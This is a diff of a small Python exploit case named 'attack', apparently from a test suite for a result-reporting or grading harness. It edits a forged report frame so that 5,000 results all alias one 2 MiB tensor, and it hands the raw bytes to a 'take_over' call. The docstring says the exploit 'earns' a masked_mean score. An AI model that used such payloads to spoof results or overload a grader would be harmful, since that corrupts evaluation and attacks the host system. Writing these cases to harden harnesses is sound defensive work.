@@ -1,4 +1,4 @@
-"""Reports a hundred results that are all the same 20 MiB.
+"""Reports 5,000 results that are all the same 2 MiB.
 
 Earns: masked_mean 2
 """
@@ -9,9 +9,9 @@ import struct
 
 @in_call
 def attack():
-    same = {"tensor": ["uint8", [20 * 2**20], 0, 20 * 2**20]}
+    same = {"tensor": ["uint8", [2 * 2**20], 0, 2 * 2**20]}
     report = json.loads(frame_of(returned="here")[8:])
     pair = next(pair for pair in report["dict"] if pair[0] == "returned")
-    pair[1] = {"tuple": [same] * 100}
+    pair[1] = {"tuple": [same] * 5000}
     head = json.dumps(report).encode()
-    take_over(struct.pack(">II", len(head), 20 * 2**20) + head + bytes(20 * 2**20))
+    take_over(struct.pack(">II", len(head), 2 * 2**20) + head + bytes(2 * 2**20))
